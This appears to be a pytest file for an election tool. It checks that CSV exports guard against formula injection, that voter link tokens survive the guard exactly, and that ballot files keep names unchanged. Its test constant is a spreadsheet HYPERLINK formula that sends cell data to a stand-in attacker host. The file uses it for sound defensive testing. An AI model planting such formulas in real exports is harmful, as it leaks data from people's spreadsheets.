"""CSV files for people open safely in a spreadsheet (OWASP, CSV injection); the ballot
files for `psephos count` keep names exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from psephos.files import spreadsheet_cell
from tests.contests.helpers import member, run_cli, small_contest, write_roll

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_cells_are_quoted_and_numbers_are_not() -> None:
    for text in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_cell(text) == "'" + text
    for kept in ("Ann = Bob", "-3.5", "+44", "12", "", 7):
        assert spreadsheet_cell(kept) == kept


def test_credentials_file_and_postal_pack_quote_a_formula_name(db_url: str,
                                                                tmp_path: Path) -> None:
    from psephos.contests.credentials import postal_pack

    contest = small_contest(tmp_path)
    write_roll(tmp_path / "m.csv", [member(1, name=EVIL), member(2, name="-Minus Sign")])
    assert run_cli(db_url, "electorate", "import", "small", str(tmp_path / "m.csv"),
                   "--section", "members").exit_code == 0
    out = tmp_path / "credentials.csv"
    assert run_cli(db_url, "credentials", "issue", "small", "--out", str(out)).exit_code == 0
    names = {row[1] for row in _rows(out)[1:]}
    assert names == {"'" + EVIL, "'-Minus Sign"}
    pack = tmp_path / "pack.csv"
    postal_pack(contest, pack)
    assert {row[1] for row in _rows(pack)[1:]} == {"'" + EVIL, "'-Minus Sign"}


def test_every_link_token_in_the_credentials_file_is_exact(
        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A link token starting with '-' (1 in 64 of ``token_urlsafe``) came out of the
    formula guard as '\'-...', which matched no credential: the voter could not vote."""
    import secrets

    from psephos.contests.models import Credential
    from psephos.contests.tokens import link_hash

    real, calls = secrets.token_urlsafe, iter(range(1000))
    monkeypatch.setattr(secrets, "token_urlsafe", lambda n=None: (
        "-" + real(n)[1:] if next(calls) % 2 == 0 else real(n)))
    small_contest(tmp_path)
    write_roll(tmp_path / "m.csv", [member(i) for i in range(1, 5)])
    assert run_cli(db_url, "electorate", "import", "small", str(tmp_path / "m.csv"),
                   "--section", "members").exit_code == 0
    out = tmp_path / "credentials.csv"
    assert run_cli(db_url, "credentials", "issue", "small", "--out", str(out)).exit_code == 0
    with out.open(newline="", encoding="utf-8") as handle:
        tokens = [row["link_token"] for row in csv.DictReader(handle)]
    assert len(tokens) == 4
    for token in tokens:
        assert Credential.objects.filter(link_hash=link_hash(token)).exists(), token


def test_ballot_files_for_the_count_keep_names_exactly(tmp_path: Path) -> None:
    from psephos.ballots.csv_writer import write_ballot_file
    from psephos.ballots.readers import read_profile

    path = tmp_path / "ballots.csv"
    write_ballot_file(path, ["=Odd", "Plain"], [["=Odd", "Plain"], ["Plain"]])
    profile = read_profile(path)
    assert list(profile.candidates) == ["=Odd", "Plain"]
